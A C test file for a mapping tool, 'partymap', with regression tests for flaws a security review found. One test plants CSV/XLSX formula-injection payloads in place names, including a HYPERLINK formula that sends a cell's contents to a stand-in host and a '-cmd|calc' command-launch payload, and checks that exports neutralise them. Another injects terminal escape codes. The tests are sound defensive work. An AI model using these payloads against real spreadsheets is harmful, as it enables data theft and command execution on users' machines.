/* The defects an attack on partymap found (issue 19) that the other suites do not
 * cover: each test fails on the binary before its fix.  Run on the sample and on the
 * second place (build/park). */
#include <criterion/criterion.h>
#include <cairo.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "../support/support.h"
#include "core/fileio.h"

#define PARK PM_SOURCE_DIR "/build/park"

static void expect(const char *text, const char *want)
{
    cr_expect(strstr(text, want), "missing \"%s\" in:\n%s", want, text);
}

/* A copy of the sample in a new folder (caller removes it). */
static char *sample_copy(void)
{
    t_need_binary();
    char *dir = t_tmpdir();
    cr_assert_eq(t_copy_sample(dir), 0);
    return dir;
}

/* A copy of the park in a new folder (caller removes it); skips without it. */
static char *park_copy(void)
{
    struct stat sb;
    if (stat(PARK "/.stamp", &sb) != 0) cr_skip_test("build/park is absent: `make park` generates it");
    t_need_binary();
    char *dir = t_tmpdir(), *cmd = pm_asprintf("cp -r '%s/.' '%s/' && cd '%s' && python3 -c \"import json; "
                                               "c = json.load(open('park.json')); c['styles'] = '%s/styles'; "
                                               "json.dump(c, open('park.json', 'w'), ensure_ascii=False)\"",
                                               PARK, dir, dir, PM_SOURCE_DIR);
    cr_assert_eq(t_run(cmd, NULL), 0, "%s", cmd);
    free(cmd);
    return dir;
}

/* Runs python3 code in dir (a statement list; json, os imported). */
static void py(const char *dir, const char *code)
{
    char *path = pm_asprintf("%s/.edit.py", dir), *err = NULL;
    char *src = pm_asprintf("import json, os\n%s\n", code);
    cr_assert_eq(pm_write_atomic(path, src, strlen(src), &err), PM_OK);
    char *cmd = pm_asprintf("cd '%s' && python3 .edit.py 2>&1", dir), *out = NULL;
    cr_assert_eq(t_run(cmd, &out), 0, "%s\n%s", code, out);
    free(out); free(cmd); free(src); free(path);
}

/* Edits the config file cfg (relative to dir) with a Python statement over c. */
static void edit(const char *dir, const char *cfg, const char *python)
{
    char *code = pm_asprintf("c = json.load(open('%s', encoding='utf-8-sig'))\n%s\n"
                             "json.dump(c, open('%s', 'w'), ensure_ascii=False)", cfg, python, cfg);
    py(dir, code);
    free(code);
}

/* partymap ARGS in dir's config (CFG relative to dir): exit status, stderr + stdout in
 * *out (caller frees; may be NULL). */
static int pm_in(const char *dir, const char *cfg, const char *args, char **out)
{
    char *a = pm_asprintf("%s -c '%s/%s' 2>&1", args, dir, cfg);
    int rc = t_pm(a, out);
    free(a);
    return rc;
}

static char *slurp(const char *path)
{
    char *text = NULL, *err = NULL;
    size_t len;
    cr_assert_eq(pm_read_file(path, 64 << 20, &text, &len, &err), PM_OK, "%s", err);
    return text;
}

static char *sh_out(const char *cmd)
{
    char *out = NULL;
    cr_assert_eq(t_run(cmd, &out), 0, "%s\n%s", cmd, out);
    return out;
}

/* ---- 19: a UTF-8 BOM in the config ---- */

Test(attack, a_config_saved_with_a_bom_is_read, .timeout = PM_T(120))
{
    char *dir = sample_copy(), *out = NULL;
    py(dir, "t = open('partymap.json', 'rb').read()\nopen('bom.json', 'wb').write(b'\\xef\\xbb\\xbf' + t)");
    int rc = pm_in(dir, "bom.json", "check", &out);
    cr_assert_eq(rc, 0, "%s", out);
    expect(out, "35 committees, 14 platforms, 689 projects, years 2014 2015 2016, 5 maps: OK");
    free(out);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 19: evaluation columns named like derived indicators ---- */

Test(attack, columns_named_like_derived_indicators_are_refused_naming_both, .timeout = PM_T(120))
{
    char *dir = park_copy(), *out = NULL;
    /* the park's evaluations map their Chinese columns: a column mapped to service_rank
     * and one to area_km2 would be hidden by the ranks and areas partymap computes */
    py(dir, "import csv\n"
            "r = list(csv.reader(open('evaluations.csv', encoding='utf-8-sig')))\n"
            "r[0] += ['名次', '面积']\n"
            "for x in r[1:]: x += ['1', '2.5']\n"
            "csv.writer(open('evaluations.csv', 'w', encoding='utf-8', newline='')).writerows(r)");
    edit(dir, "park.json", "c['sources']['evaluations']['columns'].update({'service_rank': '名次', 'area_km2': '面积'})");
    cr_assert_eq(pm_in(dir, "park.json", "check", &out), 1, "%s", out);
    expect(out, "evaluations.csv: service_rank: clashes with the derived indicator service_rank "
                "(computed from the column service)");
    expect(out, "evaluations.csv: area_km2: clashes with partymap's derived indicator area_km2");
    free(out);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 11: formula prefixes in the spreadsheets ---- */

Test(attack, names_that_look_like_formulas_are_neutralised_in_csv_and_xlsx, .timeout = PM_T(240))
{
    char *dir = park_copy(), *out = NULL;
    py(dir, "f = 'committees/湖心街道.geojson'\n"
            "d = json.load(open(f))\n"
            "names = ['=HYPERLINK(\"http://x.test/?\"&A1,\"点击\")', '-cmd|calc', '@SUM(A1)', '-12', '-2.5 – +2.5', '+A1+A2']\n"
            "for x, n in zip(d['features'], names): x['properties']['社区名称'] = n\n"
            "json.dump(d, open(f, 'w'), ensure_ascii=False)");
    char *o = pm_asprintf("render --only data --quiet --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "park.json", o, &out), 0, "%s", out);
    free(out); free(o);
    o = pm_asprintf("report --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "park.json", o, &out), 0, "%s", out);
    free(out); free(o);
    const char *csvs[] = { "out/2016/evaluation.csv", "out/2016/changes.csv" };
    for (int i = 0; i < 2; i++) {
        char *p = pm_asprintf("%s/%s", dir, csvs[i]), *t = slurp(p);
        expect(t, "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"点击\"\")\",");
        expect(t, "'+A1+A2,");
        expect(t, "'-cmd|calc,");
        expect(t, "'@SUM(A1),");
        expect(t, "-2.5 – +2.5,"); /* at most arithmetic: left readable */
        cr_expect_null(strstr(t, "'-2.5 – +2.5,"), "%s", csvs[i]);
        const char *bad[] = { "=HYPERLINK", "\"=HYPERLINK", "+A1", "-cmd", "@SUM" };
        for (int k = 0; k < 5; k++) {
            char *a = pm_asprintf(",%s", bad[k]), *b = pm_asprintf("\n%s", bad[k]);
            cr_expect(!strstr(t, a) && !strstr(t, b), "%s: a cell starts with %s", csvs[i], bad[k]);
            free(a); free(b);
        }
        free(t); free(p);
    }
    char *cmd = pm_asprintf("cd '%s/out/2016' && unzip -p evaluation.xlsx xl/sharedStrings.xml", dir);
    char *x = sh_out(cmd);
    expect(x, ">'=HYPERLINK(");
    expect(x, ">'@SUM(A1)<");
    cr_expect_null(strstr(x, ">=HYPERLINK("), "no XLSX text cell starts with =");
    free(x); free(cmd);
    /* the database keeps the names as they are */
    cmd = pm_asprintf("ogrinfo -ro -q -sql \"SELECT count(*) AS n FROM committees WHERE name LIKE '=HYPERLINK(%%'\" "
                      "'%s/out/partymap.gpkg' | grep 'n (Integer'", dir);
    x = sh_out(cmd);
    cr_expect(strstr(x, "= 3"), "the GeoPackage holds the name unchanged, once per year: %s", x);
    free(x); free(cmd);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 16: a rerun on unchanged data rewrites nothing ---- */

Test(attack, a_rerun_on_unchanged_data_keeps_the_spreadsheets_and_the_database, .timeout = PM_T(240))
{
    char *dir = sample_copy(), *out = NULL;
    char *o = pm_asprintf("render --only data --quiet --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 0, "%s", out);
    free(out);
    const char *files[] = { "out/2016/evaluation.csv", "out/2016/evaluation.xlsx", "out/partymap.gpkg" };
    struct stat before[3], after[3];
    char *paths[3];
    for (int i = 0; i < 3; i++) {
        paths[i] = pm_asprintf("%s/%s", dir, files[i]);
        cr_assert_eq(stat(paths[i], &before[i]), 0, "%s", files[i]);
    }
    /* time stamps have whole-second resolution on some file systems */
    cr_assert_eq(t_run("sleep 1.1", NULL), 0);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 0, "%s", out);
    free(out);
    for (int i = 0; i < 3; i++) {
        cr_assert_eq(stat(paths[i], &after[i]), 0);
        cr_expect_eq(after[i].st_ino, before[i].st_ino, "%s: the same file, not a new one", files[i]);
        cr_expect(after[i].st_mtim.tv_sec == before[i].st_mtim.tv_sec
                  && after[i].st_mtim.tv_nsec == before[i].st_mtim.tv_nsec, "%s: modification time kept", files[i]);
    }
    /* a change of the data writes them again */
    py(dir, "p = 'geodata/changshou/evaluations.csv'\nt = open(p, encoding='utf-8-sig').read()\n"
            "assert ',2016,9' in t\nopen(p, 'w', encoding='utf-8').write(t.replace(',2016,9', ',2016,8', 1))");
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 0, "%s", out);
    free(out);
    for (int i = 0; i < 3; i++) {
        cr_assert_eq(stat(paths[i], &after[i]), 0);
        cr_expect_neq(after[i].st_ino, before[i].st_ino, "%s: rewritten after a change", files[i]);
        free(paths[i]);
    }
    free(o);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 15: CSV line numbers ---- */

Test(attack, csv_problems_name_the_physical_line, .timeout = PM_T(120))
{
    char *dir = park_copy(), *out = NULL;
    /* a note column with a cell over two lines in row 2, two empty lines after row 3
     * and a bad score in row 6: header 1, row 2 on lines 2-3, row 3 on 4, empty 5 and
     * 6, rows 4-6 on lines 7-10 (GDAL's record number says line 7) */
    py(dir, "L = open('evaluations.csv', encoding='utf-8-sig').read().split('\\n')\n"
            "L[0] += ',备注'\nL[1] += ',\"第一行\\n第二行\"'\n"
            "L = L[:3] + ['', ''] + L[3:]\n"
            "c = L[8].split(',')\nc[3] = 'x' + c[3]\nL[8] = ','.join(c)\n"
            "open('evaluations.csv', 'w', encoding='utf-8', newline='').write('\\ufeff' + '\\r\\n'.join(L))");
    cr_assert_eq(pm_in(dir, "park.json", "check", &out), 1, "%s", out);
    expect(out, "evaluations.csv: line 10 (320590001006 芦荡社区): 服务群众能效指数: not a number");
    char *text = NULL;
    free(text); free(out);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 20: a tile-aligned snapshot is its tiles ---- */

Test(attack, a_tile_aligned_snapshot_is_exactly_the_stitched_tiles, .timeout = PM_T(240))
{
    char *dir = sample_copy(), *out = NULL;
    edit(dir, "partymap.json", "c['tiles'] = {'minzoom': 16, 'maxzoom': 16, 'hidpi': False}");
    char *o = pm_asprintf("render --only tiles --maps service --quiet --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 0, "%s", out);
    free(out); free(o);
    /* a 3 x 3 block of z16 tiles in the middle of the sample, corners to 10 decimals as
     * a tile calculator prints them */
    const unsigned x0 = 54872, y0 = 26774;
    o = pm_asprintf("snapshot --map service --zoom 16 --bbox 121.4208984375,31.2362886418,"
                    "121.4373779297,31.2503781499 -o '%s/snap.png'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 0, "%s", out);
    expect(out, "(768 × 768 px, service 2016, zoom 16)");
    free(out); free(o);
    char *sp = pm_asprintf("%s/snap.png", dir), *err = NULL, *png = NULL;
    size_t len;
    cr_assert_eq(pm_read_file(sp, 64 << 20, &png, &len, &err), PM_OK);
    cairo_surface_t *snap = t_png_decode((unsigned char *)png, len);
    free(png);
    cr_assert_eq(cairo_image_surface_get_width(snap), 768);
    cr_assert_eq(cairo_image_surface_get_height(snap), 768);
    cairo_surface_flush(snap);
    const unsigned char *sd = cairo_image_surface_get_data(snap);
    int ss = cairo_image_surface_get_stride(snap);
    size_t tiles = 0, differ = 0;
    for (unsigned ty = 0; ty < 3; ty++)
        for (unsigned tx = 0; tx < 3; tx++) {
            char *tp = pm_asprintf("%s/out/2016/tiles/service/16/%u/%u.png", dir, x0 + tx, y0 + ty);
            if (!pm_path_exists(tp)) { free(tp); continue; } /* an empty tile: transparent */
            cr_assert_eq(pm_read_file(tp, 1 << 24, &png, &len, &err), PM_OK);
            cairo_surface_t *t = t_png_decode((unsigned char *)png, len);
            free(png);
            cairo_surface_flush(t);
            const unsigned char *td = cairo_image_surface_get_data(t);
            int ts = cairo_image_surface_get_stride(t);
            for (int y = 0; y < 256; y++)
                differ += memcmp(td + (size_t)y * ts, sd + (size_t)(ty * 256 + y) * ss + tx * 256 * 4, 256 * 4) != 0;
            cairo_surface_destroy(t);
            free(tp);
            tiles++;
        }
    cr_assert_eq(tiles, 9, "the block holds tiles (%zu)", tiles);
    cr_expect_eq(differ, 0, "%zu rows of 256 px differ between the snapshot and the tiles", differ);
    cairo_surface_destroy(snap);
    free(sp);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 8: XLSX formulas without stored values ---- */

/* dir/ev.xlsx: the sample's evaluations through ogr2ogr, its service cells in rows
 * 2-3 made formulas with their values stored (as Excel saves them) and, with
 * uncached, the cells in rows 5-7 formulas without (as a generator writes them). */
static void formula_xlsx(const char *dir, int uncached)
{
    char *cmd = pm_asprintf("cd '%s' && ogr2ogr -f XLSX ev0.xlsx geodata/changshou/evaluations.csv "
                            "-oo AUTODETECT_TYPE=YES -nln 测评 2>&1", dir);
    free(sh_out(cmd));
    free(cmd);
    char *code = pm_asprintf(
        "import zipfile, re\n"
        "zi = zipfile.ZipFile('ev0.xlsx'); zo = zipfile.ZipFile('ev.xlsx', 'w', zipfile.ZIP_DEFLATED)\n"
        "def cell(m):\n"
        "    r = int(m.group(1))\n"
        "    if r in (2, 3): return '<c r=\"C%%d\">\\n<f>D%%d*1</f>\\n<v>%%s</v>' %% (r, r, m.group(2))\n"
        "    if %d and r in (5, 6, 7): return '<c r=\"C%%d\">\\n<f>D%%d*1</f>' %% (r, r)\n"
        "    return m.group(0)\n"
        "for i in zi.infolist():\n"
        "    d = zi.read(i.filename)\n"
        "    if i.filename == 'xl/worksheets/sheet1.xml':\n"
        "        d = re.sub(r'<c r=\"C(\\d+)\">\\s*<v>([^<]*)</v>', cell, d.decode()).encode()\n"
        "    zo.writestr(i, d)\n"
        "zo.close()", uncached);
    py(dir, code);
    free(code);
    edit(dir, "partymap.json", "c['sources']['evaluations'] = {'path': 'ev.xlsx'}");
}

Test(attack, xlsx_formulas_without_stored_values_are_refused_with_the_cell, .timeout = PM_T(120))
{
    char *dir = sample_copy(), *out = NULL;
    formula_xlsx(dir, 0);
    /* formulas with stored values read as those values */
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 0, "%s", out);
    expect(out, "5 maps: OK");
    free(out);
    formula_xlsx(dir, 1);
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1, "%s", out);
    expect(out, "ev.xlsx: sheet 测评 row 5 column C: a formula without a stored value (and 2 more cells "
                "like it)");
    expect(out, "open and save it in Excel or LibreOffice, which store the values");
    free(out);
    char *o = pm_asprintf("render --only data --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 1, "render refuses it too: %s", out);
    free(out); free(o);
    char *outdir = pm_asprintf("%s/out", dir);
    cr_expect_not(pm_path_exists(outdir), "nothing written");
    free(outdir);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 3: bounded tile extent ---- */

Test(attack, a_tile_plan_over_max_tiles_is_refused_before_drawing, .timeout = PM_T(120))
{
    char *dir = sample_copy(), *out = NULL;
    /* the sample's pyramid at z12-18 is 816 tiles a map */
    edit(dir, "partymap.json", "c['tiles'] = {'max_tiles': 500}");
    char *o = pm_asprintf("render --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 1, "%s", out);
    expect(out, "partymap.json: tiles.max_tiles: each map's tile pyramid would hold about 816 tiles "
                "(z12-18 over the committees' extent), more than the limit of 500");
    expect(out, "raise \"tiles\": {\"max_tiles\": N} in the config");
    free(out);
    char *outdir = pm_asprintf("%s/out", dir);
    cr_expect_not(pm_path_exists(outdir), "nothing written (not even the posters)");
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1, "check agrees: %s", out);
    expect(out, "tiles.max_tiles: each map's tile pyramid would hold about 816 tiles");
    free(out);
    cr_assert_eq(pm_in(dir, "partymap.json", "check --json", &out), 1, "check --json agrees");
    free(out);
    /* outputs without tiles do not need the limit */
    char *o2 = pm_asprintf("render --only data --quiet --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o2, &out), 0, "%s", out);
    free(out); free(o2);
    edit(dir, "partymap.json", "c['tiles'] = {'max_tiles': 816}");
    char *o3 = pm_asprintf("render --dry-run --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o3, &out), 0, "at the limit: %s", out);
    free(out); free(o3);
    edit(dir, "partymap.json", "c['tiles'] = {'max_tiles': 0}");
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1);
    expect(out, "tiles.max_tiles: must be a whole number of tiles from 1 to 2^40");
    free(out);
    free(o); free(outdir);
    t_rm_tree(dir);
    free(dir);
}

Test(attack, a_vertex_at_0_0_is_named_by_check_and_nothing_is_drawn, .timeout = PM_T(120))
{
    char *dir = sample_copy(), *out = NULL;
    char *cmd = pm_asprintf("cd '%s/geodata/changshou' && ogr2ogr -f GeoJSON c.geojson committees.shp 2>&1", dir);
    free(sh_out(cmd));
    free(cmd);
    py(dir, "f = 'geodata/changshou/c.geojson'\nd = json.load(open(f))\n"
            "g = d['features'][4]['geometry']\n"
            "ring = g['coordinates'][0] if g['type'] == 'Polygon' else g['coordinates'][0][0]\n"
            "ring.insert(2, [0.0, 0.0])\njson.dump(d, open(f, 'w'), ensure_ascii=False)");
    edit(dir, "partymap.json", "c['sources']['committees'] = {'path': 'geodata/changshou/c.geojson'}");
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1, "%s", out);
    expect(out, "c.geojson: feature 4 (310107015005 圣骊澳门苑): geometry: a vertex at (0.00000, 0.00000) "
                "lies 13475 km from the centre of the committees");
    free(out);
    char *o = pm_asprintf("timeout 20 %s render -c '%s/partymap.json' --out '%s/out' 2>&1", t_bin(), dir, dir);
    cr_assert_eq(t_run(o, &out), 1, "refused quickly: %s", out);
    free(out); free(o);
    char *outdir = pm_asprintf("%s/out", dir);
    cr_expect_not(pm_path_exists(outdir), "nothing written");
    free(outdir);
    t_rm_tree(dir);
    free(dir);
}

/* ---- 19: a 10,000-character name ---- */

/* The longest run of 长 in text (counted in characters). */
static size_t longest_run(const char *text)
{
    size_t best = 0, cur = 0;
    for (const char *p = text; *p;) {
        if (strncmp(p, "长", 3) == 0) { cur++; p += 3; if (cur > best) best = cur; }
        else { cur = 0; p++; }
    }
    return best;
}

Test(attack, a_very_long_name_is_cut_when_drawn_and_kept_whole_in_the_data, .timeout = PM_T(300))
{
    char *dir = park_copy(), *out = NULL;
    py(dir, "f = 'committees/湖心街道.geojson'\nd = json.load(open(f))\n"
            "d['features'][0]['properties']['社区名称'] = '长' * 9998 + '社区'\n"
            "json.dump(d, open(f, 'w'), ensure_ascii=False)");
    edit(dir, "park.json", "c['tiles'] = {'minzoom': 12, 'maxzoom': 14, 'hidpi': False}");
    char *o = pm_asprintf("render --maps service --quiet --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "park.json", o, &out), 0, "posters, atlas, tiles, data and site: %s", out);
    free(out); free(o);
    /* drawn: 39 characters and an ellipsis, on the poster and on every atlas page */
    char *cmd = pm_asprintf("pdftotext '%s/out/2016/print/service.pdf' -", dir);
    char *t = sh_out(cmd);
    cr_expect_eq(longest_run(t), 39, "the poster draws 39 characters of the name (%zu)", longest_run(t));
    expect(t, "长长长…");
    free(t); free(cmd);
    cmd = pm_asprintf("pdftotext '%s/out/2016/atlas.pdf' -", dir);
    t = sh_out(cmd);
    size_t run = longest_run(t);
    cr_expect(run >= 10 && run <= 39, "the atlas draws at most 39 characters of the name (%zu)", run);
    free(t); free(cmd);
    /* the page title fits left of the year's label: the line that holds it holds
     * nothing else, and ends before the label's left edge */
    cmd = pm_asprintf("for p in $(seq 3 60); do pdftotext -f $p -l $p -bbox '%s/out/2016/atlas.pdf' - | "
                      "grep -q '>长长长' && { pdftotext -f $p -l $p -bbox '%s/out/2016/atlas.pdf' - | "
                      "grep -E '长长长|诊断书' | sed 's/.*xMin=\"\\([0-9.]*\\)\".*xMax=\"\\([0-9.]*\\)\".*/\\1 \\2/'; break; }; "
                      "done", dir, dir);
    t = sh_out(cmd);
    double tmin, tmax, ymin, ymax;
    cr_assert_eq(sscanf(t, "%lf %lf %lf %lf", &tmin, &tmax, &ymin, &ymax), 4, "title and year label: %s", t);
    cr_expect_lt(tmax, ymin, "the title (to %.1f pt) ends before the year's label (from %.1f pt)", tmax, ymin);
    free(t); free(cmd);
    /* the data outputs keep the name whole */
    char *p = pm_asprintf("%s/out/2016/evaluation.csv", dir);
    t = slurp(p);
    cr_expect_eq(longest_run(t), 9998, "evaluation.csv keeps the whole name");
    free(t); free(p);
    t_rm_tree(dir);
    free(dir);
}

/* ---- items fixed before this branch, each with its test here (they pass on the
 * old binary: the fixes came with earlier commits) ---- */

/* 5: check, check --json and render agree on a style whose indicator is unknown:
 * both checks fail naming it; render names it before writing anything, leaves its
 * map out (issue 20: the other maps are drawn) and exits 1. */
Test(attack, an_unknown_indicator_fails_check_json_and_render_alike, .timeout = PM_T(120))
{
    char *dir = sample_copy(), *out = NULL;
    py(dir, "p = 'styles/satisfaction.json'\nt = open(p).read()\n"
            "open(p, 'w').write(t.replace('\"indicator\": \"satisfaction\"', '\"indicator\": \"nosuchthing\"'))");
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1, "%s", out);
    expect(out, "satisfaction.json: indicator: column 1: unknown field \"nosuchthing\"");
    expect(out, "maps: problems above");
    free(out);
    cr_assert_eq(pm_in(dir, "partymap.json", "check --json", &out), 1);
    expect(out, "\"ok\": false");
    expect(out, "unknown field \\\"nosuchthing\\\"");
    free(out);
    char *o = pm_asprintf("render --only print --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 1, "%s", out);
    const char *problem = strstr(out, "unknown field \"nosuchthing\""), *first = strstr(out, ".pdf");
    cr_expect(problem && (!first || problem < first), "the style is named before any poster is written:\n%s", out);
    free(out); free(o);
    char *cmd = pm_asprintf("find '%s/out' -name 'satisfaction*' | wc -l", dir);
    char *n = sh_out(cmd);
    cr_expect_eq(atoi(n), 0, "no poster of the map whose style is wrong");
    free(n); free(cmd);
    t_rm_tree(dir);
    free(dir);
}

/* 10, 12, 13, 14: the years key honoured; a geographic print CRS, a map listed twice
 * and a count of 1e308 refused by name. */
Test(attack, config_and_table_values_the_attack_tried, .timeout = PM_T(120))
{
    char *dir = sample_copy(), *out = NULL;
    py(dir, "t = open('partymap.json').read()\nopen('base.json', 'w').write(t)");
    edit(dir, "partymap.json", "c['years'] = [2015]");
    char *o = pm_asprintf("render --dry-run --out '%s/out'", dir);
    cr_assert_eq(pm_in(dir, "partymap.json", o, &out), 0, "%s", out);
    expect(out, "/out/2015/print/service.pdf");
    cr_expect_null(strstr(out, "/out/2016/"), "\"years\": [2015] renders 2015 only:\n%s", out);
    free(out);
    edit(dir, "partymap.json", "c.pop('years'); c['print']['crs'] = 'EPSG:4326'");
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1);
    expect(out, "print.crs: \"EPSG:4326\" is not a usable coordinate system: a geographic (longitude/latitude) "
                "CRS: areas, distances and posters need a projected one");
    free(out);
    edit(dir, "partymap.json", "c['print']['crs'] = 'EPSG:4549'; c['maps'] = ['service', 'satisfaction', 'service']");
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1);
    expect(out, "maps: \"service\" is listed twice");
    free(out);
    edit(dir, "partymap.json", "c['maps'] = ['service']");
    py(dir, "p = 'geodata/changshou/evaluations.csv'\nL = open(p, encoding='utf-8-sig').read().split('\\n')\n"
            "c = L[3].split(',')\nc[5] = '1e308'\nL[3] = ','.join(c)\nopen(p, 'w').write('\\n'.join(L))");
    cr_assert_eq(pm_in(dir, "partymap.json", "check", &out), 1);
    expect(out, "evaluations.csv: line 4 (310107015003 梦清园): needs: 1e+308 is out of range (0 to 1e+08)");
    free(out); free(o);
    t_rm_tree(dir);
    free(dir);
}

/* 17: numbers in arguments parsed strictly. */
Test(attack, arguments_are_parsed_strictly, .timeout = PM_T(60))
{
    t_need_binary();
    static const struct { const char *args, *want; } c[] = {
        { "render --shard 1/-1 --dry-run", "--shard: expected K/N with 1 <= K <= N <= 100000" },
        { "render --shard 4294967297/4294967298 --dry-run", "--shard: expected K/N with 1 <= K <= N <= 100000" },
        { "render --maps , --dry-run", "--maps ,: expected a comma list of map ids" },
        { "snapshot --map service --zoom 16 --bbox nan,31.2,121.5,31.3 -o /dev/null",
          "--bbox: expected MINLON,MINLAT,MAXLON,MAXLAT (finite" },
        { "merge -o x.pmtiles --max-tiles 0 a.pmtiles", "--max-tiles: expected a whole number from 1 to 2^40" },
    };
    for (size_t i = 0; i < sizeof c / sizeof c[0]; i++) {
        char *a = pm_asprintf("%s 2>&1", c[i].args), *out = NULL;
        cr_expect_eq(t_pm(a, &out), 2, "%s: a usage error: %s", c[i].args, out);
        expect(out, c[i].want);
        free(a); free(out);
    }
}

/* ---- 11: control characters in names other than the committees' ---- */

Test(attack, control_characters_in_parent_and_point_names_are_named_at_load, .timeout = PM_T(120))
{
    char *dir = park_copy(), *out = NULL;
    py(dir, "d = json.load(open('platforms.geojson'))\n"
            "d['features'][0]['properties']['名称'] = '平台\\x1b[31m红\\n二'\n"
            "json.dump(d, open('platforms.geojson', 'w'), ensure_ascii=False)");
    cr_assert_eq(pm_in(dir, "park.json", "check", &out), 0, "a point's name is repaired: %s", out);
    expect(out, "platforms.geojson: warning: feature 0 (平台 [31m红 二): 名称: control characters (line breaks, "
                "tabs or escape codes) in the name, category or partner: each drawn and written as a space");
    cr_expect_null(strstr(out, "\x1b"), "no escape code reaches the terminal");
    free(out);
    py(dir, "f = 'committees/湖心街道.geojson'\nd = json.load(open(f))\n"
            "d['features'][1]['properties']['所属街道'] = '湖心\\x1b[2J街道'\n"
            "json.dump(d, open(f, 'w'), ensure_ascii=False)");
    cr_assert_eq(pm_in(dir, "park.json", "check", &out), 1, "%s", out);
    expect(out, "湖心街道.geojson: feature 1 (");
    expect(out, "): 所属街道: the parent's name holds control characters (line breaks, tabs or escape codes): "
                "correct it in the file");
    free(out);
    t_rm_tree(dir);
    free(dir);
}
